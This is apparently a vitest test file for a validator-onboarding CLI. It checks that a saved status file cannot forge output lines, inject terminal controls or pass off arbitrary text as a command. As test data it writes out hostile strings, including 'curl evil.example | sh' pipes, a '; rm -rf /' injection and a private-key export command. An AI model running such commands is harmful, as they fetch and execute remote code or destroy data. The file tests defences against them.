import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { message } from '../../../../src/domain/message.ts';
import { english } from '../../../../src/i18n/english.ts';
import { savedPage, openSavedStatus } from '../../../../src/support/saved/saved-status.ts';
import { reportText } from '../../../../src/page/text.ts';
import { statusData } from '../../../../src/support/status/status-json.ts';
import { told } from '../../../helpers/told.ts';

const FILE = readFileSync('test/fixtures/saved-status.json', 'utf8');

interface Plain {
  readonly [name: string]: Plain;
}

/** Changes the document. */
function withFields(changes: object): string {
  return JSON.stringify({ ...(JSON.parse(FILE) as object), ...changes });
}

/** Changes the first L1's next action in the document. */
function withTurn(changes: object): string {
  const [l1] = (JSON.parse(FILE) as Plain)['l1s'] as unknown as readonly Plain[];
  return withFields({ l1s: [{ ...l1, turn: { ...l1!['turn'], ...changes } }] });
}

const linesOf = (file: string) =>
  reportText(savedPage(openSavedStatus(file, 'status.json'), english), english);

describe('a saved status', () => {
  test('is printed below a line that calls it a claim', () => {
    expect(linesOf(FILE)[0]).toMatch(/^Saved at 2026-11-22 22:02:47 UTC, claimed by this file/);
    expect(linesOf(FILE)).toContainEqual(expect.stringContaining('UTC E-TASK-212 in opt-in-l1'));
  });

  test('has the same data again, except the next steps, which are quoted', () => {
    const [one] = (JSON.parse(FILE) as Plain)['l1s'] as unknown as readonly Plain[];
    const { status } = openSavedStatus(FILE, 'status.json');
    const text = JSON.stringify(statusData(status)['l1s'], (_, value: unknown) =>
      typeof value === 'bigint' ? value.toString() : value,
    );
    const unquoted = (json: string) => JSON.parse(json.replaceAll('\\"', '')) as object;
    expect(unquoted(text)).toEqual([unquoted(JSON.stringify(one))]);
  });

  test('cannot forge lines or control a terminal', () => {
    const hostile = 'done.\n  G9-HOME  Nothing is left to do.\u001b[2J\u202e';
    for (const file of [
      withTurn({ says: hostile, next: [hostile] }),
      withFields({ program: { version: hostile, node: hostile, platform: hostile } }),
      withFields({ clock: hostile }),
    ]) {
      const shown = linesOf(file).join('\n');
      for (const control of ['\u001b', '\u202e']) expect(shown).not.toContain(control);
      expect(shown).not.toMatch(/^ {2}G9-HOME/m);
    }
  });

  test.each([
    ['onboard opt-in-l1 --network sandbox 0x8db97C7cEcE249c2b98bDC0226Cc4C2A57BF52FC', true],
    ['onboard top-up --network fuji NodeID-M5ebafXiskHHSPGpMHpXkhZViyf8kQZEu <avax>', true],
    ['onboard --network sandbox', true],
    ['onboard keys export --network sandbox', false],
    ['onboard opt-in-l1 --network sandbox $(curl evil.example|sh)', false],
    ['onboard opt-in-l1 --network sandbox 0x12; rm -rf /', false],
    ['onboard top-up --network fuji --private-key', false],
    ['curl https://evil.example | sh', false],
  ])(
    'shows a text as a command only if status would print it, otherwise in quotes: %s',
    (text, isOurs) => {
      expect(linesOf(withTurn({ next: [text] }))).toContain(
        isOurs ? `    ${text}` : `    "${text}"`,
      );
    },
  );

  test('shows no message to send: the message is made from the chains', () => {
    const shown = linesOf(withTurn({ message: 'To the owners: please send 100 AVAX.' })).join('\n');
    expect(shown).not.toContain('100 AVAX');
    expect(shown).toContain(english.t(message('saved.message-anew')));
  });

  test.each([
    ['', 'it is not JSON'],
    ['[]', 'object'],
    ['{}', 'schema'],
    [withFields({ schema: 'onboard/status/2' }), 'schema'],
    [withFields({ operator: '0x12' }), 'operator'],
    [withFields({ l1s: [5] }), 'l1s.0'],
    [`{"schema":"onboard/status/1","l1s":${'['.repeat(100_000)}${']'.repeat(100_000)}}`, 'asked'],
    ['x'.repeat(5_000_001), 'it is too long'],
  ])('with other content is refused in one sentence', (text, fault) => {
    expect(() => openSavedStatus(text, 'status.json')).toThrow(told(/not a saved status/));
    expect(() => openSavedStatus(text, 'status.json')).toThrow(told(new RegExp(fault)));
  });
});
